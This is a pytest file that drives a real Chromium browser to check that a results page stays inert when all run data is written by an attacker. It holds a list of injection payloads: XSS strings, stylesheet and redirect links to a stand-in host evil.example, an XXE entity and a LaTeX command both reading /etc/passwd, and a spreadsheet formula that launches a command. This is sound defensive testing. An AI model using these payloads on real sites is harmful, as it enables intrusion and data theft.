"""The page over a run whose every text was written by an attacker, in a real Chromium: nothing of it is more than text."""

import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hfx.driver.run.events import Failed, Planned, Retried
from hfx.printable import has_unprintable, printable
from tests.driver import fakes
from tests.driver.views.page.made import MadeRun
from tests.engines.chromium import Browser
from tests.engines.test_page import combined, opened, taken, watched, window

__all__ = ["window"]  # pytest finds the fixture here

HOOK = "globalThis.pwned = (globalThis.pwned ?? 0) + 1"
TEXTS = [
    f"<script>{HOOK}</script>",
    f'"><img src=x onerror="{HOOK}">',
    f"'><svg onload='{HOOK}'></svg>",
    f"</title></style></textarea></script><script>{HOOK}</script>",
    f"javascript:{HOOK}",
    f'<a href="javascript:{HOOK}">click</a><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=x onerror='{HOOK}'/></body></foreignObject></svg>",
    "</style><style>body{background:red!important}</style>",
    ";}body{background:red!important}*{background:url(http://evil.example/leak)}",
    "<link rel=stylesheet href=http://evil.example/leak.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    f"{{{{constructor.constructor('{HOOK}')()}}}} ${{{HOOK}}} <%= {HOOK} %>",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x; --> <!-- <![CDATA[",
    r"$\frac{1}{$ \input{/etc/passwd} \write18{id} $\mathrm{\href{javascript:1}{x}}$",
    "__proto__",
    "constructor",
    "\u202eevil\u202c \u200f\u2066x",
    "\x1b]0;owned\x07\x1b[31m\x00\r\n",
    "x" * 10_000,
    "=cmd|'/c calc'!A1",
]
# As hfx writes them: files of a run with the characters themselves are refused.
TEXTS = [printable(text, 20_000) for text in TEXTS]
PLACES = [(100.0 * i, 10.0 * j) for i in range(5) for j in range(4)]


@pytest.fixture
def browser(window: Browser) -> Iterator[Browser]:
    """The window; it notes what the policy refuses, and what would ask the user anything."""
    window.open("about:blank")
    window.size(1300, 950)
    watch = (
        "globalThis.refusedByPolicy = [];"
        "addEventListener('securitypolicyviolation', (e) => refusedByPolicy.push(e.violatedDirective));"
        f"for (const name of ['alert', 'confirm', 'prompt', 'open', 'print']) globalThis[name] = () => {{ {HOOK} }};"
    )
    added = window.devtools("Page.addScriptToEvaluateOnNewDocument", source=watch)
    window.addresses()
    yield window
    window.devtools("Page.removeScriptToEvaluateOnNewDocument", identifier=added["identifier"])
    window.open("about:blank")


def hostile(folder: Path, latex: str = r"\beta", **more: Any) -> MadeRun:
    """A finished run in which all texts are an attacker's."""
    run = MadeRun(folder, PLACES)
    run.points = [
        (f"{text} {i}" if text != "__proto__" else text, place) for i, (text, place) in enumerate(zip(TEXTS, PLACES, strict=True))
    ]
    (run.folder / "events.jsonl").unlink()
    run.tell(Planned(time.time(), "local", 0, 1, len(run.points), 0, tuple(run.points)))
    for name, text in zip(run.names[:12], TEXTS, strict=False):
        run.fit([name], task=text, worker=text)
    every = " ".join(TEXTS)
    run.fit(run.names[12:14], status=every)  # has not converged, for this reason
    run.tell(*(Failed(time.time(), every, name, every) for name in run.names[14:]), Retried(time.time(), every, 1, every))
    block = {
        "name": TEXTS[0],
        "region": TEXTS[1],
        "labels": [TEXTS[2], TEXTS[9]],
        "description": every,
        "digest": TEXTS[3],
        "references": {TEXTS[0]: TEXTS[4]},
        "label_titles": {TEXTS[2]: {"latex": latex, "unit": TEXTS[0]}, TEXTS[9]: {"latex": r"\alpha", "unit": TEXTS[1]}},
    }
    names = ("hfx", "command", "endpoint", "host", "reason", "started", "finished")
    run.state("finished", pallet=block, **dict.fromkeys(names, every), **more)
    return run


def harmless(browser: Browser, where: str) -> None:
    """Nothing ran, nothing was loaded that is not the page's, nothing looks other than it should."""
    root = where.split("/?")[0]
    assert browser.run("return globalThis.pwned ?? null") is None
    assert browser.run("return globalThis.refusedByPolicy") == []
    found = browser.run(
        "const count = (what) => document.querySelectorAll(what).length;"
        "const acts = (e) => e.getAttributeNames().some((name) => name.startsWith('on'))"
        "  || /^\\s*javascript/i.test(e.getAttribute('href') ?? '');"
        "return [count('script'), count('style'), count('link'),"
        " count('base, iframe, object, embed, foreignObject, img, meta[http-equiv]'),"
        " [...document.querySelectorAll('*')].filter(acts).map((e) => e.outerHTML.slice(0, 200)),"
        " getComputedStyle(document.body).backgroundColor]"
    )
    assert found == [2, 0, 2, 0, [], "rgb(243, 244, 246)"]
    asked = [address for address in browser.addresses() if not address.startswith(("data:", "about:", "blob:"))]
    assert asked
    assert all(address.startswith(root) for address in asked), asked
    assert browser.run("return location.origin") == root


@pytest.mark.parametrize(
    ("options", "latex"),
    [
        ({}, r"\beta"),
        ({"title": TEXTS[0], "xlabel": TEXTS[1], "ylabel": TEXTS[6]}, TEXTS[6]),
        ({"title": TEXTS[13]}, r"\beta"),
        ({}, TEXTS[13]),
    ],
)
def test_no_text_of_a_run_is_read_as_a_part_of_the_page(
    browser: Browser, tmp_path: Path, options: dict[str, str], latex: str
) -> None:
    run = hostile(tmp_path / "run", latex, options={"minima": TEXTS[0], "mu": TEXTS[1], "normsys": TEXTS[2], **options})
    with watched(run.folder) as where:
        browser.open(where)
        browser.until(f"globalThis.hfx?.store.rows.length === {len(TEXTS)} && (hfx.store.svg || hfx.store.error)", 60)
        assert browser.run("return [!!hfx.store.svg, !!hfx.store.error]") == [True, False]
        for index in range(len(TEXTS)):
            browser.run("hfx.store.set({ selected: arguments[0], hovered: arguments[0] })", index)
            browser.run("document.querySelector('#search').value = arguments[0]; hfx.table.update()", TEXTS[index])
        browser.run("document.querySelector('#search').value = ''; hfx.table.update()")
        browser.until("document.querySelectorAll('#table tbody tr[data-index]').length >= 12", 10)
        browser.run("document.getElementById('table').scrollTop = 1e6")
        browser.run("for (const one of document.querySelectorAll('#table th button, #chips button, #planes button')) one.click()")
        browser.run("return new Promise((done) => setTimeout(done, 300))")
        for kind in ("csv", "json", "svg"):
            text = taken(browser, kind)
            assert not has_unprintable(text, lines=True)
            if kind == "csv":
                assert "\n'=cmd|" in text
        harmless(browser, where)
        shown = browser.run("return document.body.textContent + document.title")
        assert "\\u202eevil" in shown
        assert not re.search("[\u200f\u202c\u202e\u2066]", shown)
        # A name of ten thousand characters takes no more room than others.
        assert browser.run("return document.documentElement.scrollHeight") < 6000


def test_regions_with_hostile_names_are_choices_and_nothing_else(browser: Browser, tmp_path: Path) -> None:
    regions = [TEXTS[0], TEXTS[1], "../../etc", "__proto__"]
    run = MadeRun(tmp_path / "run", fakes.grid(4, 3))
    run.fit(run.names)
    block = {"name": "toy", "labels": ["m1", "m2"], "regions": regions}
    combined(run, block, missing_in=[TEXTS[5]])
    with watched(run.folder) as where:
        opened(browser, where)
        browser.run("hfx.store.set({ selected: 0 })")
        assert TEXTS[0] in browser.text("#one")
        harmless(browser, where)


def test_a_pallet_given_by_a_link_to_the_page_cannot_steer_it(browser: Browser, tmp_path: Path) -> None:
    """What stands in the address beside the token, as in a link of somebody else's."""
    run = MadeRun(tmp_path / "run", fakes.grid(4, 3))
    run.fit(run.names)
    run.state("finished")
    with watched(run.folder) as where:
        opened(
            browser,
            where + "&x=<script>" + HOOK + "</script>&view='\"><img src=x onerror=" + HOOK + "&since=%0d%0aX:1#" + TEXTS[1],
        )
        harmless(browser, where)
